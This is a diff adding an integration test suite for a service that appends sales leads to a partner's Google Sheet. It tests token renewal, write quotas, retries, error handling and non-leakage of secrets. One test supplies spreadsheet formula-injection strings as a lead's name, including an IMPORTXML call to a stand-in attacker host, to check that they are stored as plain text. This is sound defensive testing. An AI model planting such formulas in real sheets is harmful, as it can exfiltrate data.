@@ -1,0 +1,429 @@
+// Rows appended to a partner's Google sheet: through the channel, over real HTTP, with the quota in a real database.
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+
+import type { DeliveryChannel, Parcel } from '../../src/deliveries/channel.ts';
+import { columnNames } from '../../src/deliveries/delivery-columns.rules.ts';
+import { saleExample } from '../../src/deliveries/delivery-example.ts';
+import { createSheetsChannel } from '../../src/deliveries/sheets.channel.ts';
+import type { SendOutcome } from '../../src/platform/outbound/send-outcome.ts';
+import { readServiceAccount } from '../../src/platform/outbound/sheets/service-account.ts';
+import { createSheets, type Sheets } from '../../src/platform/outbound/sheets/sheets.ts';
+import { forgetWriteQuota } from '../../src/platform/outbound/sheets/write-quota.ts';
+import { createTestDatabase, type TestDatabase } from '../support/database.ts';
+import { type Google, privateKeyPem, serviceAccountEmail, startGoogle } from '../support/google.ts';
+import { handClock, type HandClock } from '../support/hand-clock.ts';
+import { exampleFields, parcel, recipient } from '../support/parcels.ts';
+import type { ReceivedRequest, Reply } from '../support/receiver.ts';
+
+let testDatabase: TestDatabase;
+beforeAll(async () => {
+  testDatabase = await createTestDatabase();
+});
+afterAll(() => testDatabase.drop());
+
+let clock: HandClock;
+let google: Google;
+const cleanups: Array<() => Promise<void>> = [];
+beforeEach(async () => {
+  clock = handClock('2026-11-20T17:03:12.418Z');
+  google = await startGoogle({ now: () => clock.now() });
+  cleanups.push(() => google.close());
+  await testDatabase.database.tx((tx) => forgetWriteQuota(tx, new Date('2100-01-01T00:00:00.000Z')));
+});
+afterEach(async () => {
+  for (const cleanup of cleanups.splice(0).toReversed()) await cleanup();
+});
+
+/** As a worker of its own has it. */
+function sheets(keyFile: unknown = google.keyFile): Sheets {
+  const made = createSheets({
+    serviceAccount: readServiceAccount({ googleServiceAccountFile: 'account.json' }, () => JSON.stringify(keyFile)),
+    apiUrl: google.origin,
+    database: testDatabase.database,
+    clock,
+    chance: () => 0.5,
+  });
+  cleanups.push(() => made.close());
+  return made;
+}
+
+const channel = (): DeliveryChannel => createSheetsChannel(sheets());
+
+function send(through: DeliveryChannel, ...parcels: readonly Parcel[]): Promise<readonly SendOutcome[]> {
+  return through.send(recipient({ sheetsSpreadsheetId: google.spreadsheetId }), parcels, clock.now());
+}
+
+const isAppend = ({ path }: ReceivedRequest): boolean => path.includes(':append');
+/** Each of the next requests of this sort is answered with one of these, and the rest as ever. */
+function failing(isMeant: (request: ReceivedRequest) => boolean, when: 'instead' | 'after', ...replies: Reply[]): void {
+  google.fault = (request) => {
+    const reply = isMeant(request) ? replies.shift() : undefined;
+    if (reply === undefined) return null;
+    return when === 'instead' ? { instead: reply } : { after: reply };
+  };
+}
+const idsInSheet = (): unknown[] => google.rows.map(([first]) => first);
+const taken = { kind: 'taken', error: null } as const;
+
+describe('A lead', () => {
+  test('is a row under the columns of the export, in a sheet that was empty', async () => {
+    const one = parcel();
+    expect(await send(channel(), one)).toMatchObject([{ ...taken, responseCode: 200 }]);
+    const { lead } = saleExample;
+    expect(google.rows).toEqual([
+      [...columnNames],
+      [
+        ...[one.id, 'LS-100042', 'Lead Sale', 'Confirmed', 45, '2026-11-20T17:03:12.418Z', false],
+        ...[lead.fullName, lead.email, lead.phone, 'CA', 24_500, true, '2026-11-20T17:03:11.000Z', 'v7', lead.leadIp],
+        ...['search', 'cpc', null, null, null, lead.sourceUrl],
+      ],
+    ]);
+  });
+
+  test('gets no header above it where something stands already', async () => {
+    google.rows.push(['My own column']);
+    await send(channel(), parcel());
+    expect(google.rows).toHaveLength(2);
+  });
+
+  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '=IMPORTXML("https://evil.example","//x")', "'=1+1"])(
+    'named %s is sent as this text, for a sheet that takes it as text',
+    async (fullName) => {
+      const one = parcel();
+      await send(channel(), { ...one, delivery: { ...one.delivery, lead: { ...one.delivery.lead, fullName } } });
+      expect(google.rows[1]?.[columnNames.indexOf('fullName')]).toBe(fullName);
+      // The stub answers nothing else with a 200; said here because it is the point.
+      expect(google.requests.find(isAppend)?.path).toMatch(/\?valueInputOption=RAW&insertDataOption=INSERT_ROWS$/);
+    },
+  );
+
+  test('that is a test has an id of its own and says so', async () => {
+    await send(channel(), parcel({ id: 'att_01m7wyk0h2emp81qch4dvtyn6a', isTest: true }));
+    expect(google.rows[1]?.slice(0, 2)).toEqual(['att_01m7wyk0h2emp81qch4dvtyn6a', '[TEST] LS-100042']);
+  });
+
+  test.each(['Leads 2026', "Summit's", 'Q1/Q2', 'A1', 'リード'])(
+    'goes to the first sheet, also when it is called %s',
+    async (title) => {
+      google.title = title;
+      expect(await send(channel(), parcel())).toMatchObject([taken]);
+      expect(await sheets().sheetName(google.spreadsheetId)).toBe(title);
+    },
+  );
+});
+
+describe('Many leads', () => {
+  test('are one write', async () => {
+    const through = channel();
+    const parcels = Array.from({ length: through.parcelsPerCall }, () => parcel());
+    const outcomes = await send(through, ...parcels);
+    expect(outcomes).toHaveLength(200);
+    expect(outcomes.every(({ kind }) => kind === 'taken')).toBe(true);
+    expect(google.asked.appends()).toHaveLength(1);
+    expect(idsInSheet()).toEqual(['deliveryId', ...parcels.map(({ id }) => id)]);
+  });
+
+  test('need one token, one look at the title and one at the first cell', async () => {
+    const through = channel();
+    for (let n = 0; n < 5; n += 1) expect(await send(through, parcel())).toMatchObject([taken]);
+    expect(google.asked.tokens()).toBe(1);
+    expect(google.asked.reads()).toHaveLength(2);
+    expect(google.rows).toHaveLength(6);
+  });
+
+  test('at once wait for one token', async () => {
+    google.rows.push(['deliveryId']);
+    const through = channel();
+    const outcomes = await Promise.all(Array.from({ length: 10 }, () => send(through, parcel())));
+    expect(outcomes.flat().every(({ kind }) => kind === 'taken')).toBe(true);
+    expect(google.asked.tokens()).toBe(1);
+  });
+});
+
+describe('A token', () => {
+  test('is renewed shortly before it ends', async () => {
+    const through = channel();
+    await send(through, parcel());
+    clock.advance(3600_000 - 61_000);
+    await send(through, parcel());
+    expect(google.asked.tokens()).toBe(1);
+    clock.advance(1_000);
+    await send(through, parcel());
+    expect(google.asked.tokens()).toBe(2);
+    expect(google.rows).toHaveLength(4);
+  });
+
+  test('that is not taken any more is replaced for the next attempt', async () => {
+    const through = channel();
+    await send(through, parcel());
+    google.tokens.length = 0;
+    const one = parcel();
+    expect(await send(through, one)).toMatchObject([
+      {
+        kind: 'not_taken',
+        why: 'later',
+        receipt: 'no',
+        responseCode: 401,
+        error: 'Google Sheets did not accept the access token.',
+      },
+    ]);
+    expect(await send(through, one)).toMatchObject([taken]);
+  });
+
+  test.each([
+    [
+      { status: 400, body: '{"error":"invalid_grant","error_description":"Bad key of x"}' },
+      'HTTP 400 (invalid_grant).',
+    ],
+    [{ status: 503, body: 'down' }, 'HTTP 503.'],
+    [{ status: 200, body: '{"token_type":"Bearer"}' }, 'HTTP 200.'],
+    [{ status: 200, body: '{"access_token":"a\\r\\nb: c"}' }, 'HTTP 200.'],
+  ] as const)('that Google does not give (%j) is asked for again at the next attempt', async (reply, says) => {
+    failing(({ path }) => path === '/token', 'instead', reply);
+    const through = channel();
+    const one = parcel();
+    expect(await send(through, one)).toMatchObject([
+      {
+        ...{ kind: 'not_taken', why: 'later', receipt: 'no', responseCode: null, responseSnippet: null },
+        error: `Google gave the service account no access token: ${says}`,
+      },
+    ]);
+    expect(await send(through, one)).toMatchObject([taken]);
+  });
+
+  test('endpoint that does not answer is an outcome too', async () => {
+    failing(({ path }) => path === '/token', 'instead', 'reset');
+    expect(await send(channel(), parcel())).toMatchObject([
+      { kind: 'not_taken', why: 'later', receipt: 'no', error: expect.stringContaining('no access token') as string },
+    ]);
+  });
+});
+
+describe('Sixty writes a minute', () => {
+  const until = (instant: string) => ({ kind: 'deferred', until: new Date(instant) });
+
+  test('are made by two workers together; the next waits for the minute after', async () => {
+    google.rows.push(['deliveryId']);
+    const workers = [channel(), channel()];
+    const outcomes = await Promise.all(
+      Array.from({ length: 64 }, (_, n) => send(workers[n % 2] ?? channel(), parcel())),
+    );
+    const kinds = outcomes.flat().map(({ kind }) => kind);
+    expect(kinds.filter((kind) => kind === 'taken')).toHaveLength(60);
+    // The next minute, and half of the spread.
+    const deferred = outcomes.flat().filter(({ kind }) => kind === 'deferred');
+    expect(deferred).toEqual(Array.from({ length: 4 }, () => until('2026-11-20T17:04:07.500Z')));
+    expect(google.asked.appends()).toHaveLength(60);
+    clock.set('2026-11-20T17:04:00.000Z');
+    expect(await send(workers[0] ?? channel(), parcel())).toMatchObject([taken]);
+  });
+
+  test('are counted for the account and not for what is only read', async () => {
+    const through = channel();
+    const one = parcel();
+    await send(through, one);
+    for (let n = 0; n < 70; n += 1) expect(await send(through, { ...one, isRepeat: true })).toMatchObject([taken]);
+    expect(google.asked.appends()).toHaveLength(1);
+  });
+
+  test('are forgotten with their minutes', async () => {
+    google.rows.push(['deliveryId']);
+    const through = channel();
+    for (let n = 0; n < 60; n += 1) await send(through, parcel());
+    await testDatabase.database.tx((tx) => forgetWriteQuota(tx, clock.now()));
+    expect(await send(through, parcel())).toMatchObject([{ kind: 'deferred' }]);
+    await testDatabase.database.tx((tx) => forgetWriteQuota(tx, new Date('2026-11-20T17:04:00.000Z')));
+    expect(await send(through, parcel())).toMatchObject([taken]);
+  });
+});
+
+describe('The header', () => {
+  test('is written by one of two workers that find the sheet empty', async () => {
+    // Both have looked before either may write.
+    let looked = 0;
+    const both = Promise.withResolvers<null>();
+    const workers = [channel(), channel()];
+    google.fault = ({ method, path }) => {
+      if (method === 'GET' && path.includes('/values/') && ++looked === 2) both.resolve(null);
+      return null;
+    };
+    const database = testDatabase.database;
+    const gated = workers.map(() =>
+      createSheetsChannel(
+        createSheets({
+          serviceAccount: readServiceAccount({ googleServiceAccountFile: 'x' }, () => JSON.stringify(google.keyFile)),
+          apiUrl: google.origin,
+          database: {
+            async query(statement, values) {
+              await both.promise;
+              return database.query(statement, values);
+            },
+          },
+          clock,
+        }),
+      ),
+    );
+    const parcels = gated.map(() => parcel());
+    const outcomes = await Promise.all(gated.map((worker, n) => send(worker, parcels[n] ?? parcel())));
+    const kinds = outcomes.flat().map(({ kind }) => kind);
+    expect(kinds.toSorted()).toEqual(['deferred', 'taken']);
+    expect(outcomes.flat()[kinds.indexOf('deferred')]).toEqual({
+      kind: 'deferred',
+      until: new Date('2026-11-20T17:03:17.418Z'),
+    });
+    const other = kinds.indexOf('deferred');
+    expect(await send(gated[other] ?? channel(), parcels[other] ?? parcel())).toMatchObject([taken]);
+    expect(idsInSheet()).toEqual(['deliveryId', parcels[1 - other]?.id, parcels[other]?.id]);
+  });
+});
+
+describe('A row is written once', () => {
+  test('when the answer was lost and the sheet shows that it is there', async () => {
+    failing(isAppend, 'after', 'reset');
+    const parcels = [parcel(), parcel()];
+    expect(await send(channel(), ...parcels)).toMatchObject([taken, taken]);
+    expect(idsInSheet()).toEqual(['deliveryId', ...parcels.map(({ id }) => id)]);
+    expect(google.asked.appends()).toHaveLength(1);
+  });
+
+  test('when the answer was lost, then the look at the sheet too, and another worker tries again', async () => {
+    const lookAgain = ({ path }: ReceivedRequest): boolean => decodeURIComponent(path).includes('A:A');
+    failing((request) => isAppend(request) || lookAgain(request), 'after', 'reset', 'reset');
+    const one = parcel();
+    expect(await send(channel(), one)).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'unknown' }]);
+    const fresh = parcel();
+    expect(await send(channel(), { ...one, isRepeat: true }, fresh)).toMatchObject([taken, taken]);
+    expect(idsInSheet()).toEqual(['deliveryId', one.id, fresh.id]);
+    expect(google.asked.appends().at(-1)).toHaveLength(1);
+  });
+
+  test('when Google answers 500 and had written it all the same', async () => {
+    failing(isAppend, 'after', { status: 500 });
+    const one = parcel();
+    expect(await send(channel(), one)).toMatchObject([
+      { kind: 'not_taken', why: 'later', receipt: 'unknown', responseCode: 500 },
+    ]);
+    expect(await send(channel(), { ...one, isRepeat: true })).toMatchObject([taken]);
+    expect(idsInSheet()).toEqual(['deliveryId', one.id]);
+  });
+
+  test('and not at all left out: what was lost before it was written is written at the next attempt', async () => {
+    failing(isAppend, 'instead', 'reset');
+    const one = parcel();
+    expect(await send(channel(), one)).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'unknown' }]);
+    expect(idsInSheet()).toEqual([]);
+    clock.advance(60_000);
+    expect(await send(channel(), { ...one, isRepeat: true })).toMatchObject([taken]);
+    expect(idsInSheet()).toEqual(['deliveryId', one.id]);
+  });
+
+  test('when it may be there and nobody can say: then nothing is written', async () => {
+    const one = parcel({ isRepeat: true });
+    google.rows.push(['deliveryId']);
+    failing(
+      ({ path }) => decodeURIComponent(path).includes('A:A'),
+      'instead',
+      { status: 503 },
+      { status: 200, body: 'no JSON' },
+    );
+    const through = channel();
+    expect(await send(through, one)).toMatchObject([
+      { kind: 'not_taken', why: 'later', receipt: 'no', responseCode: 503 },
+    ]);
+    expect(await send(through, one)).toMatchObject([
+      { kind: 'not_taken', why: 'later', receipt: 'no', error: 'The answer of Google Sheets could not be read.' },
+    ]);
+    expect(google.asked.appends()).toEqual([]);
+    expect(await send(through, one)).toMatchObject([taken]);
+  });
+});
+
+describe('A sheet that cannot be written', () => {
+  test.each([403, 404])('for a %d is refused with the address that it must be shared with', async (status) => {
+    for (const isMeant of [isAppend, ({ method }: ReceivedRequest) => method === 'GET']) {
+      failing(isMeant, 'instead', { status, body: '{"error":{"status":"PERMISSION_DENIED"}}' });
+      expect(await send(channel(), parcel())).toMatchObject([
+        {
+          ...{ kind: 'not_taken', why: 'refused', receipt: 'no', responseCode: status },
+          error: `The spreadsheet does not exist, or is not shared with ${serviceAccountEmail} as an editor.`,
+        },
+      ]);
+      clock.advance(60_000);
+    }
+  });
+
+  test('for too many requests is tried later, when Google says', async () => {
+    failing(isAppend, 'instead', { status: 429, headers: { 'retry-after': '37' } });
+    expect(await send(channel(), parcel())).toMatchObject([
+      { kind: 'not_taken', why: 'later', receipt: 'no', retryAfterSeconds: 37, responseCode: 429 },
+    ]);
+  });
+
+  test.each([500, 503])('for a %d is tried later, and whether it was written is unknown', async (status) => {
+    failing(isAppend, 'instead', { status });
+    expect(await send(channel(), parcel())).toMatchObject([
+      { kind: 'not_taken', why: 'later', receipt: 'unknown', responseCode: status },
+    ]);
+  });
+
+  test('for a failure before anything was written is tried later without a doubt', async () => {
+    failing(({ method }) => method === 'GET', 'instead', 'reset');
+    expect(await send(channel(), parcel())).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'no' }]);
+  });
+
+  test('is no endpoint of the partner that could be gone', async () => {
+    failing(isAppend, 'instead', { status: 410 });
+    expect(await send(channel(), parcel())).toMatchObject([{ kind: 'not_taken', why: 'refused', responseCode: 410 }]);
+  });
+
+  test('because it was renamed is found again at the next attempt', async () => {
+    const through = channel();
+    await send(through, parcel());
+    google.title = 'Renamed';
+    const one = parcel();
+    expect(await send(through, one)).toMatchObject([{ kind: 'not_taken', why: 'refused', responseCode: 400 }]);
+    expect(await send(through, one)).toMatchObject([taken]);
+  });
+
+  test('is not tried where nothing is set up', async () => {
+    const unset = createSheetsChannel(
+      createSheets({
+        serviceAccount: readServiceAccount({ googleServiceAccountFile: null }),
+        apiUrl: google.origin,
+        database: testDatabase.database,
+        clock,
+      }),
+    );
+    expect(await send(unset, parcel(), parcel())).toMatchObject(
+      [1, 2].map(() => ({
+        ...{ kind: 'not_taken', why: 'later', receipt: 'no' },
+        error: 'Google Sheets is not set up: GOOGLE_SERVICE_ACCOUNT_FILE missing.',
+      })),
+    );
+    expect(await channel().send(recipient({}), [parcel()], clock.now())).toMatchObject([
+      { kind: 'not_taken', error: 'No spreadsheet is set.' },
+    ]);
+    expect(google.requests).toEqual([]);
+  });
+});
+
+test('No outcome holds the key, a token or anything of the person', async () => {
+  const outcomes: SendOutcome[] = [];
+  const through = channel();
+  const faults: Reply[] = ['reset', { status: 400, body: '{"error":{"message":"no"}}' }, { status: 503 }];
+  for (const fault of faults) {
+    failing(isAppend, 'instead', fault);
+    outcomes.push(...(await send(through, parcel())));
+    clock.advance(60_000);
+  }
+  failing(({ path }) => path === '/token', 'instead', {
+    status: 401,
+    body: `{"error":"invalid_client","error_description":"${google.tokens[0]}"}`,
+  });
+  clock.advance(3_600_000);
+  outcomes.push(...(await send(through, parcel())));
+  const said = JSON.stringify(outcomes);
+  const secrets = [...google.tokens, ...privateKeyPem.split('\n').filter((line) => line !== ''), 'eyJ'];
+  const { fullName, email, phone, leadIp } = exampleFields;
+  for (const text of [...secrets, fullName, email, phone, leadIp]) expect(said).not.toContain(text);
+});
